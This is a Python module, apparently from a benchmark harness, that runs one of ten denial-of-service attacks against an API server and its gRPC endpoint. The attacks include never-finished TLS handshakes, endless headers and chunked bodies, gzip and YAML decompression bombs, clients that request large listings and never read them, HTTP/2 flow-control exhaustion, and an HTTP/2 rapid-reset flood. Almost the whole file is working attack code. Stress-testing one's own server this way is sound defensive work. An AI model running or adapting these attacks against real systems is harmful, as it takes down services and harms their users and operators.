"""`python -m bench.attacks NAME URL GRPC PKI`: one attack on an API server, which begins with a line of
its input, and is held until that ends.

A process of its own, so that it does not slow those whom it must not slow.  Prints a line once all its clients are at
it.  Each is bounded in number and size: what they ask for is memory, not bandwidth.
"""

import asyncio
import gzip
import io
import ssl
import struct
import sys
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import SplitResult, urlsplit

import aiohttp

AT_ONCE = 50
SECONDS = 5.0
"""How long those go on that would never end."""
MAPS = "/api/v1/namespaces/default/configmaps"
BOMB, BOMB_YAML = 100 << 20, b"[" + b",".join([b"{a: b}"] * 350_000) + b"]"
MESSAGE = 15 << 20
HEADERS, DATA, RESET, SETTINGS, WINDOW, CONTINUATION = 1, 0, 3, 4, 8, 9
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


@dataclass
class Attacker:
    rest: SplitResult
    grpc: SplitResult
    pki: Path
    writers: list[asyncio.StreamWriter] = field(default_factory=list)

    def tls(self, *, known: bool = True) -> ssl.SSLContext:
        context = ssl.create_default_context(cafile=str(self.pki / "ca.crt"))
        if known:
            context.load_cert_chain(self.pki / "tls.crt", self.pki / "tls.key")
        return context

    async def connect(
        self, where: SplitResult, tls: ssl.SSLContext | None
    ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:  # fmt: skip
        reader, writer = await asyncio.open_connection(where.hostname, where.port, ssl=tls)
        self.writers.append(writer)
        return reader, writer

    async def http2(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        tls = self.tls()
        tls.set_alpn_protocols(["h2"])
        reader, writer = await self.connect(self.grpc, tls)
        writer.write(PREFACE + _frame(SETTINGS, 0, 0))
        return reader, writer

    async def send(self, writer: asyncio.StreamWriter, *pieces: bytes) -> None:
        """As many as the server takes."""
        try:
            for piece in pieces:
                writer.write(piece)
                await writer.drain()
        except OSError:
            return

    async def post(self, body: bytes, *, known: bool, **headers: str) -> None:
        connector = aiohttp.TCPConnector(ssl=self.tls(known=known))
        named = {name.replace("_", "-"): value for name, value in headers.items()}
        async with (
            aiohttp.ClientSession(self.rest.geturl(), connector=connector) as session,
            session.post(MAPS, data=io.BytesIO(body), headers=named) as answer,
        ):
            await answer.read()


async def handshakes(of: Attacker) -> None:
    """3,000 connections that never finish theirs."""
    await _many(3000, lambda: of.connect(of.rest, None))


async def silent(of: Attacker) -> None:
    """1,000 that have, without a certificate, and ask nothing."""
    await _many(1000, lambda: of.connect(of.rest, of.tls(known=False)))


async def heads(of: Attacker) -> None:
    """30 heads without an end."""

    async def one() -> None:
        _, writer = await of.connect(of.rest, of.tls(known=False))
        await of.send(writer, b"GET / HTTP/1.1\r\nHost: x\r\n", *[b"X: " + b"y" * 64_000 + b"\r\n"] * 200)

    await _many(30, one)


async def bodies(of: Attacker) -> None:
    """30 bodies without one."""

    async def one() -> None:
        _, writer = await of.connect(of.rest, of.tls())
        head = f"POST {MAPS} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
        await of.send(writer, head.encode(), *[b"10000\r\n" + b"y" * 65536 + b"\r\n"] * 200)

    await _many(30, one)


async def bombs(of: Attacker) -> None:
    """20 bodies of 100 kB that are 100 MB."""
    packed = gzip.compress(b"0" * BOMB)
    await _many(20, lambda: of.post(packed, known=True, Content_Encoding="gzip", Content_Type="application/json"))


async def yaml(of: Attacker) -> None:
    """4 bodies of a million values, of nobody."""
    await _many(4, lambda: of.post(BOMB_YAML, known=False, Content_Type="application/yaml"))


async def tables(of: Attacker) -> None:
    """50 clients that list 20 MB as a table and do not read."""
    await _unread(of, 50, "/api/v1/configmaps?includeObject=Object", "application/json;as=Table;v=v1;g=meta.k8s.io")


async def protobuf(of: Attacker) -> None:
    """The same in protobuf."""
    await _unread(of, 50, "/api/v1/configmaps", "application/vnd.kubernetes.protobuf")


async def messages(of: Attacker) -> None:
    """20 connections of gRPC with 40 messages of 15 MB each, all unfinished."""

    async def one() -> None:
        reader, writer = await of.http2()
        await _fill(reader, writer, range(1, 80, 2))

    await _many(20, one)


async def resets(of: Attacker) -> None:
    """10 connections of gRPC that begin calls and take them back."""

    async def one() -> None:
        _, writer = await of.http2()
        until, number = time.monotonic() + SECONDS, 1
        while time.monotonic() < until:
            calls = range(number, number + 100, 2)
            number += 100
            frames = (_frame(HEADERS, 4, n, _head()) + _frame(RESET, 0, n, struct.pack(">I", 8)) for n in calls)
            await of.send(writer, b"".join(frames))
            await asyncio.sleep(0)

    await _many(10, one)


ATTACKS: dict[str, Callable[[Attacker], Awaitable[None]]] = {
    each.__name__: each for each in (handshakes, silent, heads, bodies, bombs, yaml, tables, protobuf, messages, resets)
}


async def _many(count: int, one: Callable[[], Awaitable[object]]) -> None:
    """What the server refuses is no failure of an attack."""
    room = asyncio.Semaphore(AT_ONCE)

    async def bounded() -> None:
        async with room:
            try:
                await one()
            except (OSError, aiohttp.ClientError) as e:
                print(repr(e), file=sys.stderr)

    await asyncio.gather(*(bounded() for _ in range(count)))


async def _unread(of: Attacker, count: int, path: str, accept: str) -> None:
    async def one() -> None:
        _, writer = await of.connect(of.rest, of.tls())
        writer.transport.pause_reading()  # type: ignore[attr-defined]
        writer.write(f"GET {path} HTTP/1.1\r\nHost: x\r\nAccept: {accept}\r\n\r\n".encode())

    await _many(count, one)
    await asyncio.sleep(SECONDS)


async def _fill(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, streams: range) -> None:
    """Send of each stream's message whatever the server gives room for, and never the end of it."""
    room, first = {0: 65535} | dict.fromkeys(streams, 65535), 65535
    for number in streams:
        writer.write(_frame(HEADERS, 4, number, _head()) + _frame(DATA, 0, number, b"\0" + struct.pack(">I", MESSAGE)))
        room[0] -= 5
        room[number] -= 5
    try:
        async with asyncio.timeout(SECONDS):
            while True:
                for number in [n for n in room if n]:
                    size = min(room[0], room[number], 16384)
                    if size > 0:
                        writer.write(_frame(DATA, 0, number, b"x" * size))
                        room[0] -= size
                        room[number] -= size
                await writer.drain()
                kind, flags, number, payload = await _next(reader)
                if kind == WINDOW and number in room:
                    room[number] += struct.unpack(">I", payload)[0]
                elif kind == SETTINGS and not flags:
                    writer.write(_frame(SETTINGS, 1, 0))
                    for at in range(0, len(payload), 6):
                        name, value = struct.unpack_from(">HI", payload, at)
                        if name == 4:
                            room = {n: has + (value - first if n else 0) for n, has in room.items()}
                            first = value
                elif kind == RESET:
                    room.pop(number, None)
    except TimeoutError:
        return


async def _next(reader: asyncio.StreamReader) -> tuple[int, int, int, bytes]:
    head = await reader.readexactly(9)
    return head[3], head[4], int.from_bytes(head[5:]), await reader.readexactly(int.from_bytes(head[:3]))


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


def _head() -> bytes:
    fields = {
        ":method": "POST", ":scheme": "https", ":path": "/wherry.v1.Resources/Create", ":authority": "localhost",
        "content-type": "application/grpc", "te": "trailers",
    }  # fmt: skip
    words = ((name.encode(), value.encode()) for name, value in fields.items())
    return b"".join(b"\0" + bytes((len(n),)) + n + bytes((len(v),)) + v for n, v in words)


async def main(name: str, url: str, grpc: str, pki: str) -> None:
    attacker = Attacker(urlsplit(url), urlsplit(grpc), Path(pki))
    await asyncio.to_thread(sys.stdin.readline)
    await ATTACKS[name](attacker)
    print("done", flush=True)
    await asyncio.to_thread(sys.stdin.read)
    for writer in attacker.writers:
        writer.transport.abort()


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
